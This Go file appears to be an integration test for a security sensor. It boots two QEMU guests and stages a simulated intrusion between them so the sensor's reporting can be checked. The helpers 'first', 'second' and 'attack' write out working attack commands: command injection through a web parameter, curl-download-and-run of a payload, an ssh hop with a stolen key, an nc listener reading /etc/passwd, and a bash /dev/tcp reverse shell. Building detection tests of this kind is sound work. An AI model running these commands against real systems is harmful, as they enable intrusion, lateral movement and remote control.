package main

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"
)

// hosts is the outside of dev/lane-hosts.sh: a server here, two guests as its hosts, an attack that goes from one to the other,
// and what the command line says of it.
type hosts struct {
	yagura, kernel, initrd, work string
	orders                       int

	r      *report
	files  string // port of the attacker's files
	guests []*guestHost
	ended  []func()
}

// guestHost is one guest.
type guestHost struct {
	name, address string
	id            string
	web, root     string // ports here that lead to its web application and to its control
	cmd           *exec.Cmd
}

// The guests' own network.
const (
	addressHost = "10.0.2.2" // this machine, as qemu shows it to the guests
	addressA    = "10.9.0.1"
	addressB    = "10.9.0.2"
)

func runHosts(args []string, stdout io.Writer) error {
	h := &hosts{r: &report{out: stdout}}
	f := flag.NewFlagSet("hosts", flag.ContinueOnError)
	f.StringVar(&h.yagura, "yagura", "bin/yagura", "")
	f.StringVar(&h.kernel, "kernel", "", "")
	f.StringVar(&h.initrd, "initrd", "", "")
	f.StringVar(&h.work, "work", "", "")
	f.IntVar(&h.orders, "orders", 100, "")
	if err := f.Parse(args); err != nil {
		return fmt.Errorf("arguments: %w", err)
	}
	// What is started ends with the thread that started it.
	runtime.LockOSThread()
	defer h.end()
	if err := h.serve(); err != nil {
		return err
	}
	h.guests = []*guestHost{{name: "ga", address: addressA}, {name: "gb", address: addressB}}
	for _, g := range h.guests {
		if err := h.boot(g); err != nil {
			return fmt.Errorf("boot %s: %w", g.name, err)
		}
	}
	for _, g := range h.guests {
		err := h.until(10*time.Minute, func() error { return h.reporting(g) })
		h.r.row(g.name+": enrolled, reports", err)
		if err != nil {
			return fmt.Errorf("%s: %w", g.name, err)
		}
	}
	h.r.row("the attack goes from ga to gb", h.attack())
	for _, g := range h.guests {
		h.r.row(g.name+": time has the order of boot_ns", h.order(g))
	}
	h.story()
	h.obey()
	if h.r.failed > 0 {
		return fmt.Errorf("%d rows do not hold", h.r.failed)
	}
	return nil
}

func (h *hosts) end() {
	for _, f := range slices.Backward(h.ended) {
		f()
	}
}

// start runs a program whose life ends with this one's.
func (h *hosts) start(log string, name string, args ...string) (*exec.Cmd, error) {
	out, err := os.Create(filepath.Join(h.work, log))
	if err != nil {
		return nil, fmt.Errorf("log: %w", err)
	}
	cmd := exec.Command(name, args...)
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGTERM}
	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("start %s: %w", name, err)
	}
	h.ended = append(h.ended, func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		dead := time.AfterFunc(20*time.Second, func() { _ = cmd.Process.Kill() })
		_ = cmd.Wait()
		dead.Stop()
		_ = out.Close()
	})
	return cmd, nil
}

func free() string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "0"
	}
	defer func() { _ = l.Close() }()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}

// serve starts the server and, beside it, the web site that the attacker's tools come from.
func (h *hosts) serve() error {
	if _, err := h.start("server.log", h.yagura, "server", "--data", h.data(), "--listen", "127.0.0.1:"+free(), "--sensor-listen", "127.0.0.1:"+free(), "--hostname", addressHost); err != nil {
		return err
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("the attacker's site: %w", err)
	}
	_, h.files, _ = net.SplitHostPort(l.Addr().String())
	site := http.NewServeMux()
	for path, text := range map[string]string{"/x": first(h.files), "/y": second} {
		site.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, text) })
	}
	s := &http.Server{Handler: site, ReadHeaderTimeout: time.Minute}
	go func() { _ = s.Serve(l) }()
	h.ended = append(h.ended, func() { _ = s.Close() })
	return h.until(2*time.Minute, func() error { return h.ask(&[]json.RawMessage{}, "hosts") })
}

func (h *hosts) data() string { return filepath.Join(h.work, "server") }

// first is what ga runs: a listener for the way back, and the step to gb.
func first(port string) string {
	return `#!/bin/bash
(for c in id hostname "cat /etc/passwd" "sleep 30"; do sleep 4; echo "$c"; done) | nc -l -p 9001 >/tmp/.back 2>&1 &
ssh -i /home/app/.ssh/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null app@` + addressB + ` 'curl -s -o /tmp/.y http://` + addressHost + `:` + port + `/y; chmod +x /tmp/.y; nohup /tmp/.y >/dev/null 2>&1 </dev/null &'
wait
`
}

// second is what gb runs: a shell that goes back to ga.
const second = `#!/bin/bash
bash -i >& /dev/tcp/` + addressA + `/9001 0>&1
`

// boot makes the guest's disk and starts it.
func (h *hosts) boot(g *guestHost) error {
	var token struct{ Token string }
	// The guests reach the loopback of this machine through qemu, which the server cannot know.
	if err := h.ask(&token, "enroll", "token", "--this-host"); err != nil {
		return err
	}
	dir := filepath.Join(h.work, g.name)
	if err := os.MkdirAll(filepath.Join(dir, "sensor"), 0o700); err != nil {
		return fmt.Errorf("disk: %w", err)
	}
	for name, text := range map[string]string{"token": token.Token, "name": g.name, "address": g.address, "machine-id": fmt.Sprintf("%032x\n", time.Now().UnixNano())} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			return fmt.Errorf("disk: %w", err)
		}
	}
	for _, name := range []string{"id", "id.pub", "host_key"} {
		b, err := os.ReadFile(filepath.Join(h.work, "keys", name))
		if err != nil {
			return fmt.Errorf("disk: %w", err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			return fmt.Errorf("disk: %w", err)
		}
	}
	disk := dir + ".disk"
	if out, err := exec.Command("mkfs.ext4", "-q", "-d", dir, disk, "96M").CombinedOutput(); err != nil {
		return fmt.Errorf("disk: %w: %s", err, out)
	}
	g.web, g.root = free(), free()
	wire := "stream,id=w,server=off,addr.type=unix,addr.path=" + filepath.Join(h.work, "wire")
	if g.address == addressA {
		wire = strings.Replace(wire, "off", "on", 1)
	} else if err := h.until(time.Minute, func() error { _, err := os.Stat(filepath.Join(h.work, "wire")); return err }); err != nil {
		return fmt.Errorf("the guests' network: %w", err)
	}
	var err error
	// cx16 off and one CPU: see dev/lane.sh.
	g.cmd, err = h.start(g.name+".log", "qemu-system-x86_64", "-accel", "tcg", "-cpu", "max,cx16=off", "-m", "256", "-smp", "1", "-display", "none", "-no-reboot",
		"-kernel", h.kernel, "-initrd", h.initrd, "-append", "console=ttyS0 panic=-1 quiet", "-serial", "stdio", "-monitor", "none",
		"-drive", "file="+disk+",format=raw,if=virtio",
		"-netdev", "user,id=u,hostfwd=tcp:127.0.0.1:"+g.web+"-:8080,hostfwd=tcp:127.0.0.1:"+g.root+"-:8081", "-device", "virtio-net-pci,netdev=u",
		"-netdev", wire, "-device", "virtio-net-pci,netdev=w,mac=52:54:00:09:00:0"+g.address[len(g.address)-1:])
	return err
}

// until tries until it works.
func (*hosts) until(patience time.Duration, try func() error) error {
	var err error
	for deadline := time.Now().Add(patience); time.Now().Before(deadline); time.Sleep(500 * time.Millisecond) {
		if err = try(); err == nil {
			return nil
		}
	}
	return fmt.Errorf("not within %s: %w", patience, err)
}

// ask runs a verb and reads its JSON: one value, or one a line.
func (h *hosts) ask(into any, args ...string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, h.yagura, append([]string{"--data", h.data(), "--json"}, args...)...)
	var out, said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &said
	err := cmd.Run()
	if jerr := json.Unmarshal(out.Bytes(), into); jerr != nil {
		return fmt.Errorf("yagura %s: %w, %w: %s%s", strings.Join(args, " "), cmp.Or(err, errors.New("done")), jerr, said.Bytes(), out.Bytes()[:min(out.Len(), 200)])
	}
	return nil // what an order came to is in the answer
}

func (h *hosts) reporting(g *guestHost) error {
	var all []struct{ ID, Name, State string }
	if err := h.ask(&all, "hosts"); err != nil {
		return err
	}
	for _, x := range all {
		if x.Name == g.name && (x.State == "reporting" || x.State == "degraded") {
			g.id = x.ID
			return nil
		}
	}
	return fmt.Errorf("the server knows %+v", all)
}

// do has a guest run a command, as the web application or as root.
func (g *guestHost) do(port, command string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://127.0.0.1:"+port+"/?c="+url.QueryEscape(command), nil)
	if err != nil {
		return "", fmt.Errorf("%s: %w", g.name, err)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return "", fmt.Errorf("%s: %w", g.name, err)
	}
	defer func() { _ = res.Body.Close() }()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		return string(b), fmt.Errorf("%s: %w", g.name, err)
	}
	return string(b), nil
}

// attack uses the hole of ga's web application; the rest goes by itself. It is over when the shell of gb has answered on ga.
func (h *hosts) attack() error {
	a := h.guests[0]
	if err := h.until(5*time.Minute, func() error { _, err := a.do(a.web, "true"); return err }); err != nil {
		return err
	}
	if _, err := a.do(a.web, "curl -s -o /tmp/.x http://"+addressHost+":"+h.files+"/x; chmod +x /tmp/.x; nohup /tmp/.x >/tmp/.log 2>&1 </dev/null & echo started"); err != nil {
		return err
	}
	return h.until(5*time.Minute, func() error {
		out, err := a.do(a.root, "cat /tmp/.back /tmp/.log")
		if err == nil && !strings.Contains(out, "uid=1000(app)") {
			err = fmt.Errorf("the shell of gb has not answered: %q", out)
		}
		return err
	})
}
